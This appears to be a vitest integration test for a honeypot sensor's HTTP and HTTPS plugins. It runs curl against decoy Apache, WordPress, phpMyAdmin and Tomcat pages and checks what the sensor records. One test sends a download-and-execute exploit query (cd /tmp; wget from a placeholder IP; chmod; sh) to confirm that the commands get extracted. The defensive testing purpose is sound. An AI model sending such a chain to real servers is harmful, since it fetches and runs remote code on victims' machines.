/**
 * The http/https plugins against the real curl (Debian package curl), over real
 * listeners on 127.0.0.1: default page, the seed's probes, a WordPress login POST,
 * HTTP Basic on the Tomcat manager, TLS with the generated certificate, an exploit
 * payload in a query string; then raw sockets for pipelining and abuse.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { decodeResponse } from "../../adapters/sensor/http/response.js"
import { eventually, tcp } from "../support/converse.js"
import { freeTcpPort } from "../support/free-port.js"
import { requirePeer } from "../support/peers.js"
import { startSensor } from "../support/sensor.js"
import type { RunningSensor } from "../support/sensor.js"
import { receivedFacts, runClient } from "./client.js"

const curlPeer = requirePeer({ name: "http plugin vs curl", binaries: ["curl"], debPackages: ["curl"] })

let sensor: RunningSensor
let port = 0
let tlsPort = 0

const curl = (...args: Array<string>) => runClient(curlPeer.path("curl"), ["-sS", "--max-time", "10", ...args])
const url = (path: string, scheme = "http") => `${scheme}://127.0.0.1:${scheme === "http" ? port : tlsPort}${path}`

/** facts of requests sent with this User-Agent */
const requestsBy = async (agent: string) =>
  eventually(async () => {
    const found = receivedFacts(await sensor.events()).filter((f) => f["userAgent"] === agent)
    return found.length > 0 ? found : undefined
  }, 5000, `requests from ${agent}`)

describe.skipIf(!curlPeer.available)("http and https plugins vs curl (real client)", () => {
  beforeAll(async () => {
    port = await freeTcpPort()
    tlsPort = await freeTcpPort()
    sensor = await startSensor([
      { name: "web", port, publicPort: 80, transport: "tcp", plugin: "http" },
      { name: "web-tls", port: tlsPort, publicPort: 443, transport: "tcp", plugin: "https" }
    ])
  })
  afterAll(() => sensor.stop())

  it("serves Debian's default page as Apache, and records method, path, headers and user agent", async () => {
    const r = await curl("-i", "-A", "t-default", url("/?lang=en"))
    expect(r.stdout).toMatch(/^HTTP\/1\.1 200 OK\r\n/)
    expect(r.stdout).toContain("Server: Apache/2.4.62 (Debian)\r\n")
    expect(r.stdout).toMatch(/ETag: "[0-9a-f]+-[0-9a-f]+"\r\n/)
    expect(r.stdout).toContain("Keep-Alive: timeout=5, max=100")
    expect(r.stdout).toContain("<title>Apache2 Debian Default Page: It works</title>")
    const [facts] = await requestsBy("t-default")
    expect(facts).toMatchObject({ method: "GET", path: "/", query: "lang=en", version: "1.1", host: `127.0.0.1:${port}`, status: 200, page: "default" })
    expect(facts!["headers"]).toMatchObject({ accept: "*/*", "user-agent": "t-default" })
  })

  it("answers the seed's probes on one kept-alive connection, 404 with Apache's body otherwise", async () => {
    const paths = ["/admin/config.php", "//phpmyadmin/scripts/setup.php", "/phpmyadmin/", "/.env", "/stssys.htm", "/phpmyadmin"]
    const r = await curl("--path-as-is", "-A", "t-probes", "-w", "%{http_code} %{num_connects}\\n", ...paths.flatMap((p) => ["-o", "/dev/null", url(p)]))
    expect(r.stdout.trim().split("\n")).toEqual(["200 1", "200 0", "200 0", "200 0", "404 0", "301 0"])
    const facts = await requestsBy("t-probes")
    expect(facts.map((f) => [f["path"], f["page"]])).toEqual([
      ["/admin/config.php", "freepbx"],
      ["//phpmyadmin/scripts/setup.php", "phpmyadmin-setup"],
      ["/phpmyadmin/", "phpmyadmin"],
      ["/.env", "dotenv"],
      ["/stssys.htm", "not-found"],
      ["/phpmyadmin", "phpmyadmin-redirect"]
    ])
    const body404 = await curl(url("/nothing-here"))
    expect(body404.stdout).toContain("<p>The requested URL was not found on this server.</p>")
    expect(body404.stdout).toContain(`<address>Apache/2.4.62 (Debian) Server at 127.0.0.1 Port ${port}</address>`)
    const env = await curl(url("/.env"))
    expect(env.stdout).toContain("AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE")
    const setup = await curl("--path-as-is", url("//phpmyadmin/scripts/setup.php"))
    expect(setup.stdout).toMatch(/<input type="hidden" name="token" value="[0-9a-f]{32}" \/>/)
  })

  it("records a WordPress login POST and a phpMyAdmin login as http-form credentials", async () => {
    const form = "log=admin&pwd=hunter2%21&wp-submit=Log+In&redirect_to=%2Fwp-admin%2F&testcookie=1"
    const wp = await curl("-A", "t-wp", "-d", form, url("/wp-login.php"))
    expect(wp.stdout).toContain("The password you entered for the username <strong>admin</strong> is incorrect.")
    const pma = await curl("-A", "t-pma", "-d", "pma_username=root&pma_password=toor&server=1", url("/phpmyadmin/index.php"))
    expect(pma.stdout).toContain("Access denied for user &#39;root&#39;@&#39;localhost&#39; (using password: YES)")
    const [facts] = await requestsBy("t-wp")
    expect(facts).toMatchObject({ method: "POST", path: "/wp-login.php", page: "wordpress", bodyLength: form.length })
    expect(facts!["body"]).toContain("log=admin&pwd=hunter2%21")
    const creds = await sensor.ofType("CredentialsTried")
    expect(creds).toContainEqual(expect.objectContaining({ username: "admin", password: "hunter2!", method: "http-form", detail: { app: "wordpress", path: "/wp-login.php" } }))
    expect(creds).toContainEqual(expect.objectContaining({ username: "root", password: "toor", method: "http-form" }))
  })

  it("challenges with HTTP Basic on the Tomcat manager and records what curl -u sends", async () => {
    const r = await curl("-i", "-u", "tomcat:s3cret", "-A", "t-basic", url("/manager/html"))
    expect(r.stdout).toMatch(/^HTTP\/1\.1 401 Unauthorized\r\n/)
    expect(r.stdout).toContain('WWW-Authenticate: Basic realm="Tomcat Manager Application"')
    const creds = await eventually(async () => (await sensor.ofType("CredentialsTried")).find((c) => c.method === "http-basic"))
    expect(creds).toMatchObject({ username: "tomcat", password: "s3cret", detail: { path: "/manager/html" } })
  })

  it("serves https with the self-signed certificate and extracts commands and URLs from an exploit query", async () => {
    const page = await curl("-k", "-i", "-A", "t-tls", url("/", "https"))
    expect(page.stdout).toMatch(/^HTTP\/1\.1 200 OK/)
    const exploit = "/shell?cd+/tmp;wget+http://198.51.100.7/x.sh;chmod+777+x.sh;sh+x.sh"
    const r = await curl("-k", "-g", "-A", "t-exploit", "-o", "/dev/null", "-w", "%{http_code}", url(exploit, "https"))
    expect(r.stdout).toBe("404")
    const [facts] = await requestsBy("t-exploit")
    expect(facts).toMatchObject({
      path: "/shell",
      urls: ["http://198.51.100.7/x.sh"],
      hosts: ["198.51.100.7"],
      commands: ["cd /tmp", "wget http://198.51.100.7/x.sh", "chmod 777 x.sh", "sh x.sh"]
    })
    const opened = await sensor.ofType("ContactOpened")
    expect(opened).toContainEqual(expect.objectContaining({ plugin: "https", publicPort: 443 }))
  })

  it("reads a chunked request body and answers HEAD without a body", async () => {
    const body = "a=" + "x".repeat(5000)
    const chunked = await runClient(curlPeer.path("curl"), ["-sS", "-A", "t-chunked", "-H", "Transfer-Encoding: chunked", "--data-binary", "@-", url("/upload.php")], { input: body })
    expect(chunked.stdout).toContain("404 Not Found")
    const facts = (await requestsBy("t-chunked")).filter((f) => f["bodyLength"] === 5002)
    expect(facts[0]!["headers"]).toMatchObject({ "transfer-encoding": "chunked" })
    expect(facts[0]!["bodyTruncated"]).toBe(true)
    const head = await curl("-I", url("/"))
    expect(head.stdout).toMatch(/Content-Length: \d+/)
    expect(head.stdout).not.toContain("It works")
  })

  it("answers pipelined requests in order on one connection", async () => {
    const c = await tcp(port)
    c.send("GET /.env HTTP/1.1\r\nHost: a\r\n\r\nGET /nope HTTP/1.1\r\nHost: a\r\n\r\nGET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
    await c.closed
    const first = decodeResponse(c.received())!
    const second = decodeResponse(first.rest)!
    const third = decodeResponse(second.rest)!
    expect([first.status, second.status, third.status]).toEqual([200, 404, 200])
    expect(third.headers).toContainEqual(["Connection", "close"])
    expect(third.rest.length).toBe(0)
  })

  it("survives garbage and oversize input, answering 400/414/431/413 and closing only that session", async () => {
    const answers: Array<string> = []
    for (const abuse of [
      Buffer.from([0x16, 0x03, 0x01, 0x00, 0xa5, 0x01, 0x00, 0x00, 0xa1, 0x03, 0x03, 0x0d, 0x0a, 0x0d, 0x0a]),
      "GET /" + "A".repeat(1 << 20) + " HTTP/1.1\r\n",
      "GET / HTTP/1.1\r\nX-Big: " + "B".repeat(1 << 20) + "\r\n\r\n",
      "GET / HTTP/1.1\r\n" + "X-Many: y\r\n".repeat(200) + "\r\n",
      "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 104857600\r\n\r\n"
    ]) {
      const c = await tcp(port)
      c.socket.on("error", () => undefined)
      c.send(abuse)
      await c.closed
      answers.push(c.received().toString("latin1").split("\r\n")[0]!)
    }
    expect(answers).toEqual([
      "HTTP/1.1 400 Bad Request",
      "HTTP/1.1 414 Request-URI Too Long",
      "HTTP/1.1 400 Bad Request",
      "HTTP/1.1 431 Request Header Fields Too Large",
      "HTTP/1.1 413 Request Entity Too Large"
    ])
    const after = await curl("-o", "/dev/null", "-w", "%{http_code}", url("/"))
    expect(after.stdout).toBe("200")
    const rejected = receivedFacts(await sensor.events()).filter((f) => f["rejected"] !== undefined)
    expect(rejected.map((f) => f["rejected"])).toEqual(expect.arrayContaining([400, 414, 431, 413]))
  })
})
